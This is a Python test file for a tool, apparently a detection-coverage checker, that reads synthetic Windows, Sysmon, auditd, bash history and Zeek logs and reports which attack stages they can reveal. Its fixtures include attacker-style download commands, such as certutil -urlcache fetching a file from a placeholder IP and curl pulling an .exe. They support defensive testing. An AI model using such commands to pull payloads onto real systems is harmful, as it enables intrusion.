"""Small folders of logs, and what they cannot show."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from log_writer import SECURITY, SYSMON, Audit, Windows
from tidewaiter.engines.diagnosing import examine
from tidewaiter.errors import NothingReadableError
from tidewaiter.pipeline.doctor import Diagnosis, HostView
from tidewaiter.schema.transfer import STAGES

MARK = {"visible": "+", "partly": "~", "not_visible": "-"}
ZEEK = (
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tfiles\n"
    "#fields\tts\tfuid\ttx_hosts\trx_hosts\tsource\tmime_type\tfilename\ttotal_bytes\tsha256\n"
    "#types\ttime\tstring\tset[addr]\tset[addr]\tstring\tstring\tstring\tcount\tstring\n"
)


def strip(host: HostView) -> str:
    """The seven stages as signs."""
    return "".join(MARK[host.stages[stage]] for stage in STAGES)


def groups(host: HostView) -> dict[str, str]:
    return {group.id: MARK[group.state] for group in host.utilities}


def zeek(moment: float, *hashes: str) -> str:
    rows = (
        f"{moment + number:.6f}\tF{number}aaaaaaaa\t198.51.100.7\t192.0.2.10\tHTTP\tapplication/x-dosexec\ta.exe\t9\t{value}\n"
        for number, value in enumerate(hashes)
    )
    return ZEEK + "".join(rows)


def doctor(folder: Path, **files: str) -> Diagnosis:
    for name, text in files.items():
        path = folder / name.replace("__", "/").replace("_log", ".log").replace("_json", ".json")
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return examine([str(folder)])


def test_starts_without_command_lines_show_only_that_something_ran(tmp_path: Path) -> None:
    windows = Windows()
    windows.start_4688(0, 4100, "C:\\Windows\\System32\\certutil.exe", "")
    windows.start_4688(5, 4200, "C:\\Windows\\System32\\mshta.exe", "")
    told = doctor(tmp_path, security_json=windows.text())
    host = told.hosts[0]

    assert (host.host, host.platform, host.first, host.last) == (
        "ws01.example.com",
        "windows",
        "2026-01-02T10:00:00Z",
        "2026-01-02T10:00:05Z",
    )
    assert [(log.log_source, log.kind, log.events, log.held) for log in host.logs] == [
        ("windows_security", "process_start", 2, {})
    ]
    assert strip(host) == "-----+-"
    assert groups(host)["programs"] == "-"
    assert {"sysmon-1", "security-4688-command-line", "sysmon-11", "powershell-4104"} <= set(host.settings)
    assert "security-5156" not in host.settings, "Sysmon 3 gives the same and is to be preferred"


def test_command_lines_show_most_and_the_rest_is_named(tmp_path: Path) -> None:
    windows = Windows()
    windows.start_4688(0, 4100, "C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -f http://198.51.100.7/a a")
    host = doctor(tmp_path, security_json=windows.text()).hosts[0]

    assert strip(host) == "+---+++"
    assert groups(host) == {
        "programs": "+",
        "powershell": "~",
        "cmd built-ins": "~",
        "BITS jobs": "~",
        "browsers": "-",
        "programs of their own": "-",
        "loaded libraries": "~",
        "shares": "-",
    }
    assert not {"sysmon-1", "security-4688-command-line"} & set(host.settings)


def test_a_few_command_lines_are_not_enough(tmp_path: Path) -> None:
    windows = Windows()
    for number in range(5):
        windows.start_4688(number, 4100 + number, "C:\\Windows\\System32\\a.exe", "a.exe x" if number else "")
    host = doctor(tmp_path, security_json=windows.text()).hosts[0]

    assert host.logs[0].held == {"command_line": 4}
    assert strip(host) == "-----+-"


def test_all_of_sysmon_leaves_the_wire(tmp_path: Path) -> None:
    windows = Windows()
    windows.start(0, 4100, "C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -f http://198.51.100.7/a a")
    windows.connection(1, 4100, "198.51.100.7", 80)
    windows.file(2, 4100, "C:\\Users\\ann\\a")
    told = doctor(tmp_path, sysmon_json=windows.text())

    assert strip(told.hosts[0]) == "++-++++"
    assert {one.id: one.shows for one in told.settings if one.platform == "network"} == {
        "flows": ["Network Traffic Flow"],
        "http-log": ["carried"],
        "smb-log": ["carried"],
        "suricata-files": ["carried"],
        "zeek-files": ["carried"],
    }
    assert [(one.id, one.state) for one in told.analytics] == [
        ("AN0165", "covered"),
        ("AN0166", "no_logs"),
        ("AN0167", "no_logs"),
        ("AN0168", "no_logs"),
        ("AN0169", "no_logs"),
    ]
    assert {one.id: one.state for one in told.components} == {
        "DC0032": "covered",
        "DC0064": "covered",
        "DC0029": "not",
        "DC0082": "covered",
        "DC0078": "partly",
        "DC0085": "not",
        "DC0039": "covered",
    }


@pytest.mark.parametrize(
    ("hashes", "stage", "held", "advice"),
    [
        (("ab" * 32, "cd" * 32), "visible", {"hash": 2}, []),
        (("-", "-"), "partly", {}, ["zeek-files"]),
        (("ab" * 32, "-"), "partly", {"hash": 1}, ["zeek-files"]),
    ],
)
def test_files_on_the_wire_join_the_host_by_hash(
    tmp_path: Path, hashes: tuple[str, ...], stage: str, held: dict[str, int], advice: list[str]
) -> None:
    audit = Audit()
    audit.run(0, 610, "curl", "-O", "http://files.example.org/a.exe")
    audit.run(60, 611, "ls")
    told = doctor(tmp_path, audit_log=audit.text(), files_log=zeek(1_767_348_010, *hashes))

    assert told.hosts[0].stages["carried"] == stage
    assert [(log.kind, log.held) for log in told.network] == [("file_on_wire", held)]
    assert [one.id for one in told.settings if "carried" in one.shows and one.sensor == "Zeek"] == advice


def test_a_network_log_of_another_time_speaks_for_no_host(tmp_path: Path) -> None:
    audit = Audit()
    audit.run(0, 610, "curl", "-O", "http://files.example.org/a.exe")
    told = doctor(tmp_path, audit_log=audit.text(), files_log=zeek(1_700_000_000, "ab" * 32))

    assert told.hosts[0].stages["carried"] == "not_visible"
    assert told.network_first == "2023-11-14T22:13:20Z"


def test_audit_rules_that_are_missing_are_named(tmp_path: Path) -> None:
    audit = Audit()
    audit.run(0, 610, "curl", "-O", "http://files.example.org/a.exe")
    host = doctor(tmp_path, audit_log=audit.text()).hosts[0]

    assert (host.host, host.platform, strip(host)) == ("web1", "linux", "+---+++")
    assert host.settings == ["auditd-connect", "auditd-files", "shell-history", "sftp-log"]


def test_a_history_belongs_to_the_one_host_of_its_folder(tmp_path: Path) -> None:
    audit = Audit()
    audit.run(0, 610, "ls")
    history = "#1767348000\ncurl -O http://files.example.org/a\n#1767348010\nls\n"
    together = doctor(tmp_path, web1__audit_log=audit.text(), web1__bash_history=history)
    assert [host.host for host in together.hosts] == ["web1"]

    alone = doctor(tmp_path / "web1", other__bash_history=history)
    names = {host.host: strip(host) for host in alone.hosts}
    assert names.pop("web1") == "+---+++"
    assert list(names.values()) == ["~---~~-"]
    assert next(iter(names)).endswith("bash_history")


def test_hosts_are_told_apart_and_added_up(tmp_path: Path) -> None:
    one, two = Windows("ws01.example.com"), Windows("ws02.example.com")
    one.start(0, 4100, "C:\\a.exe", "a.exe")
    two.connection(0, 4100, "198.51.100.7", 80)
    told = doctor(tmp_path, one_json=one.text(), two_json=two.text())

    assert {host.host: strip(host) for host in told.hosts} == {"ws01.example.com": "+---+++", "ws02.example.com": "-+-----"}
    assert "".join(MARK[told.stages[stage]] for stage in STAGES) == "~~--~~~"
    assert {view.platform: view.hosts for view in told.platforms} == {
        "windows": 2,
        "linux": 0,
        "macos": 0,
        "esxi": 0,
        "network": 0,
    }
    assert next(one for one in told.analytics if one.id == "AN0165").state == "partly"
    assert [(one.id, one.hosts) for one in told.settings if one.id in ("sysmon-1", "sysmon-3", "sysmon-11")] == [
        ("sysmon-1", 1),
        ("sysmon-11", 2),
        ("sysmon-3", 1),
    ]


def test_network_logs_alone_say_what_they_are(tmp_path: Path) -> None:
    told = doctor(tmp_path, files_log=zeek(1_767_348_010, "ab" * 32))

    assert told.hosts == []
    assert told.stages["carried"] == "visible"
    assert told.stages["commanded"] == "not_visible"
    assert next(one for one in told.analytics if one.id == "AN0169").state == "not"


def test_logs_without_any_event_of_use_name_no_host(tmp_path: Path) -> None:
    windows = Windows()
    windows.add(0, SECURITY, 4672, SubjectUserName="ann")
    windows.add(1, SYSMON, 255, ID="x")
    told = doctor(tmp_path, other_json=windows.text())

    assert (told.hosts, told.inputs) == ([], {"Windows events (JSON)": 1})


def test_nothing_readable_is_an_error_as_for_a_scan(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("nothing", encoding="utf-8")

    with pytest.raises(NothingReadableError):
        examine([str(tmp_path)])


def test_what_is_not_read_is_counted(tmp_path: Path) -> None:
    audit = Audit()
    audit.run(0, 610, "ls")
    (tmp_path / "a.txt").write_text("nothing", encoding="utf-8")
    told = doctor(tmp_path, audit_log=audit.text())

    assert told.unread == 1
    assert "a.txt" in told.unread_named[0]
    assert json.dumps(told.inputs)
